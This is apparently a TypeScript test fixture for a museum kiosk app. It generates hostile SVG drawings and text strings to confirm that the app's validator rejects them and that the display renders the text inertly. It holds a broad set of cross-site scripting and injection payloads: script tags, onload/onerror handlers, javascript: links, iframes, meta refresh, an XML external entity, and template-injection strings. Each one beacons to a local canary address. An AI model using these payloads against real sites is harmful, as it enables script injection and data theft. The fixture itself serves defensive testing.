import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { stringify } from 'yaml'

/**
 * What somebody might put into an exhibit to run a script in the kiosk's page, to call out or to lead it away. `canary` is an
 * address on this machine that nobody may ask.
 */
const script = (canary: string): string =>
  `owned=1;console.log('owned');new Image().src='${canary}js';fetch('${canary}fetch')`

const html = 'xmlns="http://www.w3.org/1999/xhtml"'
const foreign = (inside: string): string => `<foreignObject width="90" height="90">${inside}</foreignObject>`

/** Drawings that try. `check` refuses every one of them; here they come into the folder after it has looked. */
export const hostileDrawings = (canary: string): readonly string[] => {
  const js = script(canary).replaceAll('&', '&amp;').replaceAll('<', '&lt;')
  const bodies = [
    `<script>${js}</script>`,
    `<script href="${canary}script.js"/>`,
    `<script xlink:href="${canary}script.js"/>`,
    `<rect width="9" height="9" onload="${js}"/><animate attributeName="x" dur="1s" onbegin="${js}"/>`,
    `<image href="${canary}image.png" width="9" height="9"/>`,
    `<image xlink:href="${canary}image.png" onerror="${js}" width="9" height="9"/>`,
    `<use href="${canary}use.svg#a"/>`,
    `<style>@import url(${canary}style.css);</style>`,
    `<style>@font-face{font-family:f;src:url(${canary}font.woff2)} rect{fill:url(${canary}fill.svg#a)} text{font-family:f}</style><rect width="9" height="9"/><text y="9">f</text>`,
    `<filter id="f"><feImage href="${canary}filter.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    `<a href="javascript:${js}"><rect width="90" height="90"/></a>`,
    `<a><set attributeName="href" to="javascript:${js}"/><rect width="90" height="90"/></a>`,
    foreign(`<script ${html}>${js}</script>`),
    foreign(
      `<iframe ${html} src="${canary}frame"></iframe><iframe ${html} srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`,
    ),
    foreign(`<meta ${html} http-equiv="refresh" content="0;url=${canary}refresh"/>`),
    foreign(`<object ${html} data="${canary}object"></object><embed ${html} src="${canary}embed"/>`),
    foreign(`<img ${html} src="${canary}img.png" onerror="${js}"/>`),
    foreign(`<form ${html} action="${canary}form"><button autofocus="" onfocus="${js}">x</button></form>`),
    foreign(
      `<link ${html} rel="stylesheet" href="${canary}link.css"/><link ${html} rel="preload" as="image" href="${canary}preload.png"/>`,
    ),
    foreign(`<video ${html} src="${canary}film.mp4" poster="${canary}poster.png" autoplay=""></video>`),
  ]
  const svg = (body: string, before = '', attributes = ''): string =>
    `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 90 90" width="90" height="90" ${attributes}>${body}</svg>`
  return [
    ...bodies.map((body) => svg(body)),
    svg('', '', `onload="${js}"`),
    svg('', `<?xml version="1.0"?><?xml-stylesheet href="${canary}sheet.css"?>`),
    svg('', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}sheet.xsl"?>`),
    svg('<text>&x;</text>', `<!DOCTYPE svg [<!ENTITY x SYSTEM "${canary}entity">]>`),
  ]
}

/** Words that try. They are only words, so `check` lets them pass, and the screen has to show them as they stand. */
export const hostileWords = (canary: string): readonly string[] => {
  const js = script(canary)
  return [
    `<script>${js}</script>`,
    `</script><script>${js}</script>`,
    `</title></head><body onload="${js}">`,
    `"><script src="${canary}words.js"></script>`,
    `'><img src=x onerror="${js}">`,
    `<svg onload="${js}"></svg>`,
    `<iframe src="${canary}frame"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=${canary}refresh">`,
    `<link rel="stylesheet" href="${canary}style.css">`,
    `<base href="${canary}">`,
    `<a href="${canary}a" target="_blank">touch me</a>`,
    `<!--><script>${js}</script>`,
    `{{ constructor.constructor("${js}")() }}`,
    `\${${js}}`,
    `javascript:${js}`,
    `![x](${canary}markdown.png) [touch me](javascript:${js})`,
  ]
}

/** The same, short enough for a line of a headline. */
const shortWords = [
  '<script>owned=1</script>',
  '<img src=x onerror=owned=1>',
  '{{ owned = 1 }}',
  '</script><script>owned=1</script>',
] as const

const perSection = 6
const blank = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 90 90"/>'
const provenance = { kind: 'done', asOf: '2000-01', source: 's' }

/** Writes an exhibit of hostile words that `check` passes, with as many harmless drawings as are asked for. Answers their paths. */
export const writeHostileExhibit = (folder: string, canary: string, drawings: number): readonly string[] => {
  const words = hostileWords(canary)
  let told = 0
  const word = () => ({ en: words[told++ % words.length] ?? '' })
  const lines = () => ({ en: [shortWords[told++ % shortWords.length] ?? ''] })
  const paths = Array.from({ length: drawings }, (_, at) => `media/d${at.toString()}.svg`)
  const ids = Array.from({ length: Math.ceil(drawings / perSection) }, (_, at) => `s${at.toString()}`)
  mkdirSync(join(folder, 'sections'), { recursive: true })
  mkdirSync(join(folder, 'media'))
  for (const path of paths) writeFileSync(join(folder, path), blank)
  const section = (id: string, scene: object): void => {
    const tile = { plate: 'light', place: 'medium' }
    const whole = { id, name: word(), hook: word(), spoken: word(), title: lines(), tile, scene }
    writeFileSync(join(folder, 'sections', `${id}.yaml`), stringify(whole))
  }
  for (const [at, id] of ids.entries()) {
    const items = paths.slice(at * perSection, (at + 1) * perSection).map((picture, place) => ({
      id: `e${place.toString()}`,
      name: word(),
      mineral: 'slate',
      picture,
      ...provenance,
    }))
    section(id, { draw: 'emblems', items })
  }
  const events = [0, 1, 2].map((place) => ({
    id: `e${place.toString()}`,
    date: `200${place.toString()}-01-01`,
    dateText: word(),
    label: word(),
    sentence: word(),
    mineral: 'slate',
    ...provenance,
  }))
  section('told', { draw: 'timeline', from: '2000-01', to: '2006-01', note: word(), events })
  const exhibit = {
    format: 1,
    id: 'hostile',
    version: '1.0.0',
    title: word(),
    titleLines: lines(),
    languages: [{ key: 'en', tag: 'en-GB', name: '<b>English</b>', short: '<b>' }],
    theme: { content: 'silver' },
    asOf: { date: '2000-01', text: word() },
    sources: [{ id: 's', date: '2000-01-01', title: word() }],
    sections: [...ids, 'told'],
    loop: {
      dwell: 3,
      slides: [...ids, 'told'].map((id) => ({ id, opens: id, title: lines(), caption: word(), scene: { from: id } })),
    },
  }
  writeFileSync(join(folder, 'exhibit.yaml'), stringify(exhibit))
  return paths
}
